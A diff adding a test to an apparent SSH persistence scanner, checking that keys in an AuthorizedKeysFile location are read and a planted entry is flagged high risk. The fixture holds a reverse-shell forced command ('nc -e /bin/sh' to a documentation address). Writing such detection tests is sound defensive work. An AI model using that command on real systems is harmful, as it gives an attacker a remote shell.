@@ -393,3 +393,19 @@ def test_stderr_of_an_area_makes_it_incomplete():
     }
     report = parse_persistence(Sections(sec, complete=True))
     assert not report.complete and "Permission denied" in report.warnings[0]
+
+
+def test_piece_reads_the_keys_authorizedkeysfile_names(tmp_path):
+    root = tmp_path / "r"
+    for d in ("etc/ssh/keys", "home/alice/.ssh", "root"):
+        (root / d).mkdir(parents=True)
+    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n")
+    (root / "etc/ssh/sshd_config").write_text("Port 22\nAuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n")
+    (root / "etc/ssh/keys/alice").write_text('command="nc -e /bin/sh 192.0.2.1 1" ssh-ed25519 AAAA alice\n')
+    (root / "home/alice/.ssh/authorized_keys").write_text('command="internal-sftp" ssh-ed25519 AAAA alice\n')
+    report = parse_persistence(run_piece(root))
+    assert report.complete, report.warnings
+    found = by_path(report)
+    assert found[f"{root}/etc/ssh/keys/alice"].tier is Tier.HIGH
+    assert f"{root}/home/alice/.ssh/authorized_keys" not in found
+    assert report.counts["authorized_keys"].files == 2
